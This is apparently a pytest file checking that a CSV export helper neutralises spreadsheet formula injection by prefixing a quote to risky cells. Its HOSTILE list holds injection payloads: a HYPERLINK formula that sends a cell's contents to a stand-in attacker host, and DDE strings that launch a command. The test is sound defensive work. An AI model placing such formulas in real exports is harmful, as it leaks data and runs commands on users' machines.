"""CSV for spreadsheets (qa/spreadsheet.py), as every staff export writes it: text a spreadsheet would run as a
formula is made inert; numbers and other text are written as they are."""
from __future__ import annotations

import csv
import io

import pytest

from qa.spreadsheet import write_csv

HOSTILE = ['=HYPERLINK("https://evil.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(hostile):
    out = io.StringIO()
    assert write_csv(out, ["question", "times asked", "share"], [[hostile, 3, -0.5], ["Who wrote it?", 1, 0.25]]) == 2
    header, first, second = list(csv.reader(io.StringIO(out.getvalue())))
    assert header == ["question", "times asked", "share"]
    assert first == ["'" + hostile, "3", "-0.5"]  # a number, even negative, stays a number
    assert second == ["Who wrote it?", "1", "0.25"]
